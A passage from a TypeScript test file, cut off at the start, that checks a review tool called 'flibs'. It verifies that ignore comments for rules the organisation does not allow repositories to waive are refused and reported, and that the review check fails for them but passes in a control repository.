          .map((r) => r.body),
      );
    const lost = await ledger(
      "# flibs-ignore of a rule policy keeps",
      repos.filter((c) => "rule" in c) as Array<(typeof repos)[number] & { rule: string }>,
      async (c) => {
        const review = world.shown(c.head, "flibs/review", c.repo);
        const seen = `${c.variant}: flibs/review ${state(review)} ${review?.title}`;
        if (review?.conclusion !== "failure") return seen;
        if (!written(c.repo).includes(`suppresses nothing: the organisation's policy does not let a repository waive ${c.rule}`))
          return `${seen} (the refused ignore is not reported)`;
        if (!written(c.repo).includes(`"${c.rule}`) && !written(c.repo).includes(c.rule)) return `${seen} (no ${c.rule} finding)`;
        return undefined;
      },
    );
    expect(lost).toEqual([]);
    const ctl = repos.find((c) => c.variant === control.variant)!;
    expect(state(world.shown(ctl.head, "flibs/review", ctl.repo))).toBe("completed/success");
  }, 60_000);
});
